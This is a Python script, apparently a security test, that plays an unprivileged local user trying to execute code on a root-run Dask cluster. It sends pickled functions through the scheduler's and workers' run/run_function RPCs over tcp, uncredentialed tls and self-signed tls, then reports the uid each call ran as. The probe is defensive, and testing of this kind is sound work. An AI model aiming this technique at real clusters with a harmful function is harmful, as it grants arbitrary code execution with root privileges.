"""Another local user's attempt to run code through a root fleet pass's Dask listeners.

``python dask_attacker.py SCHEDULER_ADDRESS HOST:PORT...`` (run as ``nobody``).  Tries a
``distributed.Client`` on the scheduler address (``run_on_scheduler``/``run``), and on every
listener the raw ``run``/``run_function`` RPCs that nannies, workers and the scheduler serve,
over ``tcp://``, ``tls://`` without credentials and ``tls://`` with a certificate of its own.
Prints one JSON object a line: ``{"target", "how", "uid"}`` where the attack ran code (uid it
ran as), ``{"target", "how", "refused"}`` where it did not.
"""
import asyncio
import concurrent.futures
import functools
import json
import os
import pickle
import sys


def report(target, how, fn):
    try:
        uid = fn()
        if not isinstance(uid, int) and not (isinstance(uid, list) and uid and
                                             all(isinstance(u, int) for u in uid)):
            raise ValueError(f"no uid came back: {uid!r}")   # e.g. an op this server lacks
        print(json.dumps({"target": target, "how": how, "uid": uid}), flush=True)
    except BaseException as e:  # noqa: BLE001 -- every failure is a refusal
        print(json.dumps({"target": target, "how": how,
                          "refused": f"{type(e).__name__}: {e}"[:200]}), flush=True)


async def raw_run(addr, op, connection_args):
    from distributed.core import rpc
    r = rpc(addr, timeout=3, connection_args=connection_args)
    try:
        res = await asyncio.wait_for(getattr(r, op)(function=pickle.dumps(os.getuid)), 6)
        return res["result"] if isinstance(res, dict) else res
    finally:
        await r.close_rpc()


def client_run(addr, security=None):
    from distributed import Client
    with Client(addr, timeout=3, security=security) as c:
        return [c.run_on_scheduler(os.getuid), *c.run(os.getuid).values()]


def main():
    from distributed.security import Security
    own = Security.temporary()     # a certificate the cluster's CA never signed
    sched, listeners = sys.argv[1], sys.argv[2:]
    tries = [(sched, "client", lambda: client_run(sched))]
    for hp in listeners:
        for how, scheme, sec in (("tcp", "tcp", None), ("tls-none", "tls", None),
                                 ("tls-own-cert", "tls", own)):
            args = sec.get_connection_args("client") if sec else {}
            for op in ("run", "run_function"):
                addr = f"{scheme}://{hp}"
                tries.append((addr, f"{how}:{op}", functools.partial(
                    asyncio.run, raw_run(addr, op, args))))
        tries.append((f"tls://{hp}", "client-own-cert",
                      functools.partial(client_run, f"tls://{hp}", own)))
    with concurrent.futures.ThreadPoolExecutor(8) as ex:   # refusals may take a timeout each
        list(ex.map(lambda t: report(*t), tries))


if __name__ == "__main__":
    main()
